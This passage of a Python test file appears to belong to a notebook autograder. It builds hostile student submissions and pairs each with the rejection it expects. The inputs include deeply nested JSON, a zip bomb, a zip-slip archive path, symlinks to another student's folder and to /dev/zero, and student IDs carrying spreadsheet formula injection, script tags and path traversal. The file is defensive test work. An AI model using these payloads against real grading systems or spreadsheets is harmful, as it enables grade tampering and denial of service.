        yield HandIn(f"r-{student}", one(notebook(row_norms=source)), without("row_norms"))

    def loud(cells: list) -> None:
        cells += [nbformat.v4.new_code_cell("print('x' * 99_000)") for _ in range(200)]

    yield HandIn("r-output-of-200-cells", one(notebook(change=loud)))


# --- broken files -------------------------------------------------------------------------------------------------------


def files() -> Iterator[HandIn]:
    good = notebook()
    yield HandIn("b-empty", one(""), 0, "unreadable", "is empty")
    yield HandIn("b-no-folder", {}, 0, "no notebook", "No notebook was handed in")
    yield HandIn("b-noise", one(random.Random(0).randbytes(100_000)), 0, "unreadable|encoding", "is not")
    yield HandIn("b-latin-1", one(notebook(first="name = 'Åström'").replace("\\u00c5str\\u00f6m", "Åström").encode("latin-1")),
                 flags="encoding")  # fmt: skip
    yield HandIn("b-nested", one('{"cells": ' + "[" * 5_000_000 + "]" * 5_000_000 + "}"), 0, "unreadable", "nested")
    yield HandIn("b-nested-dicts", one('{"cells": [' + '{"source": ' * 900_000 + "1" + "}" * 900_000 + "]}"), 0,
                 "unreadable", "nested")  # fmt: skip
    yield HandIn(
        "b-long-number", one('{"cells": [], "nbformat": ' + "9" * 1_000_000 + "}"), 0, "unreadable", "not JSON"
    )
    yield HandIn("b-list", one("[1, 2, 3]"), 0, "unreadable", "no list of cells")
    yield HandIn("b-many-parts", one('{"cells": [' + "{}," * 2_000_000 + "{}]}"), 0, "unreadable", "more parts")
    yield HandIn("b-cut-short", one(good[: len(good) // 2]), 0, "unreadable", "not JSON")
    yield HandIn("b-too-large", one(good + " " * (33 << 20)), 0, "unreadable", "larger than")
    other = next(iter(releases("02_autograd").values()))
    yield HandIn("b-other-chapter", one(nbformat.writes(other)), 0, "other chapter", "02_autograd")
    yield HandIn(
        "b-two-notebooks",
        {
            f"{CHAPTER}/basics.ipynb": notebook(NOTHING | {"row_norms": ANSWERS["row_norms"]}),
            f"{CHAPTER}/basics-2.ipynb": good,
        },
        POINTS["row_norms"],
        "several notebooks",
        "counts, not",
    )

    def link(home: Path) -> None:
        (home / CHAPTER).mkdir()
        (home / CHAPTER / "basics.ipynb").symlink_to(home.parent / "s01-reference" / CHAPTER / "basics.ipynb")

    yield HandIn("b-link-to-another-student", link, 0, "no notebook refused", "is a link")

    def folder_link(home: Path) -> None:
        (home / CHAPTER).symlink_to(home.parent / "s01-reference" / CHAPTER)

    yield HandIn("b-link-to-a-folder", folder_link, 0, "no notebook refused", "is a link")
    yield HandIn(
        "b-link-to-the-disk", lambda home: (home / CHAPTER).symlink_to("/"), 0, "no notebook refused", "is a link"
    )

    def endless(home: Path) -> None:
        (home / CHAPTER).mkdir()
        (home / CHAPTER / "basics.ipynb").symlink_to("/dev/zero")

    yield HandIn("b-link-to-a-device", endless, 0, "no notebook refused", "is a link")
    yield HandIn("b-zip", {f"{CHAPTER}/work.zip": zipped({"basics.ipynb": good.encode()})})
    bomb = zipped({"basics.ipynb": bytes(200 << 20)})
    yield HandIn("b-zip-bomb", {f"{CHAPTER}/work.zip": bomb}, 0, "no notebook refused", "larger than")
    outside = zipped({"../../../../s01-reference/01_basics/basics.ipynb": notebook(NOTHING).encode()})
    yield HandIn("b-zip-slip", {f"{CHAPTER}/work.zip": outside}, 0, "no notebook refused", "leads out")
    for student, row in (
        ("=cmd|' ", "_cmd_'-"),
        ("@SUM(1+1)", "_SUM(1+1)-"),
        ("-2+3", "_2+3-"),
        ("a\\..\\b", "a_.._b-"),
        ("<script>alert(1)", "_script_alert(1)-"),
        ("tab\tand\nline", "tab_and_line-"),
        ("\u202eevil", "_evil-"),
    ):
        yield HandIn(student, one(good), flags="unsafe id", reason="not safe", row=row)
    yield HandIn("o'brien ü (2)", one(good))


def zipped(members: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def every() -> list[HandIn]:
    """All of them, with honest ones between."""
    import hostile_harm
    import hostile_points

    kinds = (honest, facts, forged, forbidden, left_behind, processes, pages, files)
    kinds += (hostile_harm.attempts, hostile_points.attempts)
    found = [hand_in for kind in kinds for hand_in in kind()]
    return [h for i, hand_in in enumerate(found) for h in (hand_in, *([between(i)] if i % 12 == 0 else ()))]


def between(number: int) -> HandIn:
    return HandIn(f"honest-{number:03d}", one(notebook()))
